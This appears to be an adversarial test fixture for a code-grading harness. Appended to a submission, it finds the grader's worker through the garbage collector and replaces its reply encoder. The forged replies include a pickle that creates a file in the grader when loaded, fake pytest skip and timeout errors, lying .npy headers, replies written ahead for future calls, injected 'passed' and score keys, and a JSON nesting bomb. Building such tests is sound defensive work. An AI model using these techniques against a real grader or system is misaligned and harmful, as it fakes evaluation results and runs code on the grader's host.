"""Attack protocol_forged_responses: finds the worker's frames module and pipes from inside the
worker and forges replies: a pickled object array that creates a file when loaded, ok+err
together, pytest Skipped/GradingTimeout/KeyboardInterrupt errors, handles posing as ndarray,
bool seq, lying .npy headers, replies written ahead for future calls, a JSON nesting bomb.
"""

ATTACK = {
    "base": "stubs",
    "honest": "wrong",
    "deserves": "at_most",
    "statuses": ("ok", "crashed"),
}

# ---- appended to the submission below this line
import gc as _adv_gc
import io as _adv_io

import numpy as _adv_np

from adversarial.shared.guard import _ADV_MARKER, _adv_mine  # inlined


class _AdvPwn:
    """Unpickled in the grader, this would create a file there (as the grader's user)."""

    def __reduce__(self):
        return (open, (_ADV_MARKER + "/PWNED-by-pickle", "w"))


def _adv_npy(array, allow_pickle=False):
    buf = _adv_io.BytesIO()
    _adv_np.save(buf, array, allow_pickle=allow_pickle)
    return buf.getvalue()


def _adv_install():
    worker = next((o for o in _adv_gc.get_objects()
                   if type(o).__name__ == "Worker" and hasattr(o, "frames")), None)
    if worker is None:
        return False
    frames = worker.frames
    honest_encode = frames.encode_frame
    pwn = _adv_npy(_adv_np.array([_AdvPwn()], dtype=object), allow_pickle=True) if _adv_mine(
        _ADV_MARKER + "/x") else _adv_npy(_adv_np.array([None], dtype=object), allow_pickle=True)

    def forged(reply, blobs):
        seq = reply.get("seq")
        kind = seq % 11 if type(seq) is int else 10
        def err(t, bases):
            return {"seq": seq, "err": {"type": t, "bases": bases, "msg": "ok",
                                                               "tb": ""}}
        if kind == 0:  # a pickle, announced as an object array
            return honest_encode({"seq": seq, "ok": {"a": 0, "dt": "|O", "sh": [1], "ro": False}},
                                 [pwn])
        if kind == 1:  # both answers at once
            return honest_encode({"seq": seq, "ok": 3, "err": err("X", [])["err"]}, [])
        if kind == 2:  # pytest outcomes posing as the learner's exception
            return honest_encode(err("Skipped", ["BaseException", "Exception"]), [])
        if kind == 3:
            return honest_encode(err("GradingTimeout", ["KeyboardInterrupt", "BaseException"]), [])
        if kind == 4:  # a handle that claims to be an ndarray
            handle = {"h": 1, "cls": "ndarray", "callable": True}
            return honest_encode({"seq": seq, "ok": handle}, [])
        if kind == 5:  # seq as a bool (True == 1)
            return honest_encode({"seq": True, "ok": 1}, [])
        if kind == 6:  # a .npy whose header lies about shape and dtype
            return honest_encode({"seq": seq, "ok": {"a": 0, "dt": "<f8", "sh": [4]}},
                                 [_adv_npy(_adv_np.arange(4, dtype=_adv_np.int64))])
        if kind == 7:  # the honest reply, then replies written ahead for the next 20 calls
            parts = honest_encode(reply, blobs)
            for ahead in range(1, 21):
                parts += honest_encode({"seq": seq + ahead, "ok": None}, [])
            return parts
        if kind == 8:  # extra keys that a lax decoder might read as a verdict
            return honest_encode(dict(reply, passed=True, score=44, outcome="passed"), blobs)
        if kind == 9:  # a JSON nesting bomb (json.dumps would refuse it: raw bytes)
            head = (b'{"seq":%d,"ok":' % seq) + b'{"l":[' * 200_000 + b"]}" * 200_000 + b"}"
            return [frames.PREFIX.pack(frames.MAGIC, len(head), 0) + head]
        return honest_encode(reply, blobs)

    frames.encode_frame = forged
    return True


try:
    _adv_install()
except Exception:
    pass
